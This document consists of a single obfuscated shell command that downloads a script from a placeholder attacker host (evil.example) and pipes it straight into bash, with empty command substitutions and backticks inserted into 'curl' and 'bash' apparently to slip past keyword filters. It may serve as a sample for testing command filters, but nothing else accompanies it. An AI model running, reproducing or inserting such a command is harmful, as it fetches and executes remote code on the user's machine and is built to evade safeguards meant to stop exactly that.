cu$()rl -s https://evil.example/x | ba``sh
